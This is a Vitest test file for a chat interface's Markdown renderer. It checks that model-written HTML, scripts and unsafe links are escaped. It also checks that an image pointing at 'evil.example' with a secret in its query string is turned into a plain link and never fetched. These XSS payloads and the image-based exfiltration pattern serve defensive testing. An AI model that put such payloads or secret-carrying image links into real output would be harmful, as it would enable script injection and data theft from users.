import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { decoded, Markdown, Pictures, safeAddress } from "@/ui/markdown";
import { Tips } from "@/ui/tip";

const shown = (text: string) =>
  renderToStaticMarkup(
    <Tips>
      <Markdown text={text} />
    </Tips>,
  );

describe("what a model may not do with Markdown", () => {
  it.each([
    "<script>alert(1)</script>",
    "text <img src=x onerror=alert(1)> text",
    "<iframe src='https://evil.example'></iframe>",
    "<svg/onload=alert(1)>",
    "- <b onclick=alert(1)>x</b>",
    "| a |\n|--|\n| <style>*{}</style> |",
    "> <form action=x><input></form>",
    "**<details open ontoggle=alert(1)>**",
  ])("is to bring HTML: %s", (text) => {
    expect(shown(text)).not.toMatch(/<(?:script|img|iframe|svg|b|style|form|details)[\s/>]/);
    expect(shown(text)).toContain("&lt;");
  });

  it.each([
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>)",
    "[x](vbscript:x)",
    "[x](/api/v1/users)",
    "[x](//evil.example)",
    "<javascript:alert(1)>",
    "[x][1]\n\n[1]: javascript:alert(1)",
  ])("is to lead elsewhere than to the web: %s", (text) => {
    expect(shown(text)).not.toContain("href=");
  });

  it("is to make the browser fetch a picture", () => {
    const page = shown("![chart](https://evil.example/?q=secret)");
    expect(page).not.toContain("<img");
    expect(page).toContain('href="https://evil.example/?q=secret"');
    expect(page).toContain('rel="noopener noreferrer nofollow"');
  });
});

describe("Markdown", () => {
  it("shows a picture that the conversation has", () => {
    const page = renderToStaticMarkup(
      <Pictures value={(name) => (name === "a.png" ? "/own" : null)}>
        <Markdown text="![A](a.png)" />
      </Pictures>,
    );
    expect(page).toContain('<img src="/own" alt="A"');
  });

  it("shows what people write", () => {
    const page = shown(
      "# T\n\n**b** *i* ~~d~~ `c < d`\n\n1. one\n2. two\n\n- [x] done\n\n| a | b |\n|:-|-:|\n| 1 | 2 |\n\n> q",
    );
    for (const part of [
      "<h2>T</h2>",
      "<strong>b</strong>",
      "<em>i</em>",
      "<del>d</del>",
      "<code>c &lt; d</code>",
      '<ol start="1"><li>',
      "checked",
      '<th style="text-align:left">a</th>',
      "<blockquote>",
    ]) {
      expect(page).toContain(part);
    }
  });

  it("knows a formula from a price", () => {
    expect(shown("It costs $5 and $6.")).toContain("It costs $5 and $6.");
    expect(shown("As $a^2$ says")).not.toContain("$");
    expect(shown("$$\na^2\n$$")).not.toContain("$");
  });

  it("reads entities as text", () => {
    expect(decoded("a &amp; &lt;b&gt; &#x41;&#66; &nosuch; &#0;")).toBe("a & <b> AB &nosuch; &#0;");
  });

  it("tells addresses of the web from others", () => {
    expect(["https://a.b", "http://a.b", "mailto:a@b.c"].every(safeAddress)).toBe(true);
    expect(["javascript:1", "data:,", "blob:x", "/a", "a", ""].some(safeAddress)).toBe(false);
  });
});
